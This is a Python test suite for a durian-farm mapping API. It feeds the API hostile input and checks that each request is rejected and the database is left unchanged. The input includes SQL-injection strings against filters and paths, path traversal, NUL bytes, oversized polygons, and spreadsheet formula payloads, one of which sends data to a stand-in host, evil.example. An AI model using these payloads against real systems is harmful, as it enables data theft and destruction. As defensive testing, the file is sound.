"""A catalogue of hostile inputs: each answered with the right status and a problem+json body
naming the field, and the database left exactly as it was."""

from __future__ import annotations

import json
import unicodedata

import pytest

from tests.world import World

BASE = "/api/v1/layers/durian_trees/features"
FARMS = "/api/v1/layers/farms/features"


def snapshot(world: World) -> tuple:
    return tuple(world.count(f"SELECT count(*) FROM {t}") for t in ("durian_trees", "farms", "asset_history", "write_receipts"))


def check(r, status: int, field: str | None = None):
    assert r.status_code == status, r.text
    assert r.headers["content-type"].startswith("application/problem+json")
    body = r.json()
    assert body["status"] == status and body["detail"]
    if field:
        assert any(e.get("field") == field for e in body.get("errors", [])), body
    return body


def raw(world: World, body: str | bytes, ctype: str = "application/json", url: str = BASE):
    return world.client.post(url, content=body, headers={**world.auth("admin"), "content-type": ctype})


def test_malformed_truncated_nested_and_wrongly_typed_bodies(world: World):
    before = snapshot(world)
    tree = json.dumps(world.tree_in(code="T-X"))
    check(raw(world, tree[: len(tree) // 2]), 400, "body")
    check(raw(world, "{" * 5000 + "}" * 5000), 400)
    assert raw(world, '{"type": "Feature", "geometry": ' + "[" * 3000 + "]" * 3000 + ', "properties": {}}').status_code in (400, 422)
    check(raw(world, tree, ctype="text/plain"), 422)
    check(raw(world, b"\xff\xfe\x00garbage"), 400)
    check(raw(world, json.dumps({"type": "Feature", "geometry": None, "properties": []})), 422)
    check(raw(world, json.dumps({"type": "FeatureCollection", "features": []}), url=BASE + "/batch"), 422)
    assert snapshot(world) == before


@pytest.mark.parametrize("coords, reason", [
    ([1e308, 12.7], "outside Vietnam"),
    ([-0.0, -0.0], "outside Vietnam"),
    ([180.0, 12.7], "outside Vietnam"),
    ([-180.0, 89.9999], "outside Vietnam"),
    ([108.3, 90.0], "outside Vietnam"),
    ([12.7, 108.3], "swapped"),
    ([108.3], "not a valid GeoJSON"),
    ([108.3, 12.7, 5.0, 7.0, 9.0], "not a valid GeoJSON"),
])
def test_extreme_coordinates(world: World, coords, reason):
    before = snapshot(world)
    tree = world.tree_in(code="T-COORD")
    tree["geometry"]["coordinates"] = coords
    body = check(world.client.post(BASE, json=tree, headers=world.auth("admin")), 422, "geometry")
    assert reason.lower() in json.dumps(body, ensure_ascii=False).lower()
    assert snapshot(world) == before


def test_infinity_and_nan_in_numbers(world: World):
    before = snapshot(world)
    for token in ("Infinity", "-Infinity", "NaN"):
        body = json.dumps(world.tree_in(code="T-INF")).replace('"gps_accuracy_m": 6.0', f'"gps_accuracy_m": {token}')
        check(raw(world, body), 422, "gps_accuracy_m")
    assert snapshot(world) == before


def _farm(geometry) -> dict:
    return {"type": "Feature", "geometry": geometry, "properties": {
        "code": "F-HOSTILE", "name": "Vườn", "province": "Đắk Lắk", "commune": "xã Ea Kly", "owner_name": "A"}}


def test_hostile_polygons(world: World):
    before = snapshot(world)
    empty = {"type": "Polygon", "coordinates": []}
    check(world.client.post(FARMS, json=_farm(empty), headers=world.auth("admin")), 422, "geometry")
    bowtie = {"type": "Polygon", "coordinates": [[[108.30, 12.70], [108.31, 12.71], [108.31, 12.70], [108.30, 12.71], [108.30, 12.70]]]}
    body = check(world.client.post(FARMS, json=_farm(bowtie), headers=world.auth("admin")), 422, "geometry")
    assert "Self-intersection" in body["detail"]
    unclosed = {"type": "Polygon", "coordinates": [[[108.30, 12.70], [108.31, 12.70], [108.31, 12.71]]]}
    check(world.client.post(FARMS, json=_farm(unclosed), headers=world.auth("admin")), 422, "geometry")
    ring = [[108.3 + 0.01 * (i % 2), 12.7 + 1e-7 * i] for i in range(120_000)]
    huge = json.dumps(_farm({"type": "Polygon", "coordinates": [ring + [ring[0]]]}))
    assert len(huge) > 1024 * 1024
    check(raw(world, huge, url=FARMS), 413)
    assert snapshot(world) == before


@pytest.mark.parametrize("param, value", [
    ("variety", "ri6' OR '1'='1"),
    ("planting_year_min", "2000; DROP TABLE durian_trees"),
    ("q", "'; DELETE FROM durian_trees; --"),
    ("commune", "x' UNION SELECT owner_phone FROM farms --"),
    ("bbox", "1,2,3,4); DROP TABLE farms; --"),
    ("farm_code", "' OR 1=1 --"),
    ("cursor", "Jyk7IERST1AgVEFCTEUgZmFybXM7IC0t"),
])
def test_injection_attempts_in_filters(world: World, param, value):
    before = snapshot(world)
    r = world.client.get(BASE, params={param: value})
    assert r.status_code in (200, 422), r.text
    if r.status_code == 200:
        assert r.json()["numberReturned"] == 0
    for url in (f"/tiles/durian_trees/6/51/29.mvt", "/api/v1/layers/durian_trees/download"):
        assert world.client.get(url, params={param: value}).status_code in (200, 422)
    ogc = world.client.get("/ogc/collections/durian_trees/items", params={"filter": f"variety = '{value}'"})
    assert ogc.status_code in (200, 400) and world.farm["properties"]["owner_phone"] not in ogc.text
    assert snapshot(world) == before
    assert world.count("SELECT count(*) FROM farms") > 0


def test_injection_in_path_parameters(world: World):
    for path in ("/api/v1/layers/durian_trees;DROP TABLE farms/features", "/api/v1/layers/durian_trees/features/1' OR '1'='1",
                 "/api/v1/layers/..%2F..%2Fetc/features", "/a/x'%20OR%201=1", "/farms/' OR 1=1 --",
                 "/ogc/collections/farms;--/items", "/tiles/farms'--/1/0/0.mvt"):
        r = world.client.get(path)
        assert r.status_code in (200, 404, 422), (path, r.status_code)
        assert "owner_phone" not in r.text
    assert world.count("SELECT count(*) FROM farms") > 0


def test_nfc_and_nfd_are_the_same_for_search_codes_and_enums(world: World):
    nfd = unicodedata.normalize("NFD", "Đồng Hướng")
    assert nfd != "Đồng Hướng"
    r = world.client.get("/api/v1/layers/wifi_points/features", params={"q": nfd})
    assert [f["properties"]["commune"] for f in r.json()["features"]] == ["xã Đồng Hướng"]
    tree = world.tree_in(code="T-NFD", name=unicodedata.normalize("NFD", "Cây sầu riêng mới"), health=unicodedata.normalize("NFD", "Sâu bệnh"))
    created = world.client.post(BASE, json=tree, headers=world.auth("volunteer")).json()
    assert created["properties"]["name"] == "Cây sầu riêng mới" and created["properties"]["health"] == "sau_benh"
    assert unicodedata.is_normalized("NFC", created["properties"]["name"])
    code = world.farm["properties"]["code"]
    assert world.client.get(f"/farms/{unicodedata.normalize('NFD', code)}").status_code == 200


def test_nul_characters_are_refused_everywhere(world: World):
    before = snapshot(world)
    check(world.client.post(BASE, json=world.tree_in(code="T-NUL", name="Cây\x00"), headers=world.auth("admin")), 422, "name")
    check(world.client.post("/api/v1/auth/login", json={"username": "admin\x00", "password": "x"}), 422)
    check(world.client.get(BASE + "?q=a%00b"), 400)
    check(world.client.get("/api/v1/layers/durian_trees/features/a%00b"), 400)
    assert snapshot(world) == before


FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"bấm")', "+84-912", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]


def test_csv_downloads_neutralise_formulas(world: World, tmp_path):
    import csv
    import io

    from geomap.io.csvcells import neutralise_frame
    from geomap.io.load import load_file

    for i, text in enumerate(FORMULAS):
        tree = world.tree_in(slot=i, code=f"T-CSV-{i}", name=text, village=text)
        assert world.client.post(BASE, json=tree, headers=world.auth("admin")).status_code == 201
    r = world.client.get("/api/v1/layers/durian_trees/download", params={"format": "csv", "q": "T-CSV"})
    assert r.status_code == 200
    rows = {row["code"]: row for row in csv.DictReader(io.StringIO(r.text, newline=""))}
    assert len(rows) == len(FORMULAS)
    for i, text in enumerate(FORMULAS):
        row, stored = rows[f"T-CSV-{i}"], text.strip()  # the API strips surrounding blanks
        assert row["name"] == "'" + stored and row["village"] == "'" + stored
        assert float(row["lon"]) > 100 and not row["lon"].startswith("'")  # numbers are left alone
    # A numeric column keeps its negative numbers; only text cells are quoted.
    import pandas as pd

    frame = neutralise_frame(pd.DataFrame({"n": [-12.5, 3.0, 1.0], "t": ["-12.5", "ok", "\tcmd"], "u": ["\r=1", None, "a-b"]}))
    assert frame["n"].tolist() == [-12.5, 3.0, 1.0] and frame["t"].tolist() == ["'-12.5", "ok", "'\tcmd"]
    assert frame["u"].tolist()[::2] == ["'\r=1", "a-b"]
    # Loading the download back gives the original text: nothing changes.
    path = tmp_path / "durian_trees.csv"
    path.write_text(r.text, encoding="utf-8")
    [result] = load_file(world.engine, path)
    assert (result.inserted, result.updated, result.unchanged) == (0, 0, len(FORMULAS))


def _circle(n: int, lon: float = 108.36, lat: float = 12.75, r: float = 0.0005) -> dict:
    import math

    ring = [[round(lon + r * math.cos(2 * math.pi * k / n), 7), round(lat + r * math.sin(2 * math.pi * k / n), 7)] for k in range(n)]
    return {"type": "Polygon", "coordinates": [ring + [ring[0]]]}


def test_vertices_per_geometry_are_bounded(world: World):
    from geomap.geometry import MAX_VERTICES

    before = snapshot(world)
    many = _circle(MAX_VERTICES + 500)
    body = check(world.client.post(FARMS, json=_farm(many), headers=world.auth("admin")), 422, "geometry")
    assert f"{MAX_VERTICES + 501:,} vertices" in body["detail"] and f"at most {MAX_VERTICES:,}" in body["detail"]
    batch = {"type": "FeatureCollection", "features": [
        {**_farm(_circle(40, lon=108.37)), "properties": {**_farm(None)["properties"], "code": "F-OK"}}, _farm(many)]}
    body = check(world.client.post(FARMS + "/batch", json=batch, headers=world.auth("admin")), 422, "geometry")
    assert [e["index"] for e in body["errors"]] == [1]
    assert snapshot(world) == before
    # A boundary of a few hundred vertices, as surveyed orchards have, is fine.
    ok = world.client.post(FARMS, json=_farm(_circle(600)), headers=world.auth("admin"))
    assert ok.status_code == 201, ok.text


OGC_500S = [  # (tile grids other than WebMercatorQuad are not offered: tests/ogc/test_standards.py)
    ("/ogc/collections/durian_trees/tiles/WebMercatorQuad/tilejson.json?minzoom=18446744073709551616", "minzoom"),
    ("/ogc/collections/durian_trees/tiles/WebMercatorQuad/tilejson.json?maxzoom=18446744073709551616", "maxzoom"),
    ("/ogc/collections/durian_trees/tiles/WebMercatorQuad/style.json?maxzoom=18446744073709551616", "maxzoom"),
    ("/ogc/collections/durian_trees/items?sortby=-name%0Ax", "sortby"),
    ("/ogc/collections/durian_trees/items?sortby=na%0Ame", "sortby"),
    ("/ogc/collections/durian_trees/items?sortby=name%0A", "sortby"),
]


def test_ogc_parameters_that_tipg_cannot_take_are_400(world: World, settings):
    from fastapi.testclient import TestClient

    from geomap.api.app import create_app

    # Server errors come back as responses here (as a client sees them), not as raised exceptions.
    with TestClient(create_app(settings), raise_server_exceptions=False) as client:
        for url, field in OGC_500S:
            body = check(client.get(url), 400, field)
            assert field in body["detail"], (url, body)
            # In range, the same kinds of request work.
            ok = url.replace("/0/5/5", "/1/0/0").replace("99/0/0", "1/0/0").replace("2/-1/0", "1/0/0")
            ok = ok.replace("18446744073709551616", "12").replace("-name%0Ax", "-name").replace("na%0Ame", "name")
            ok = ok.replace("name%0A", "name,-code")
            assert client.get(ok).status_code == 200, ok
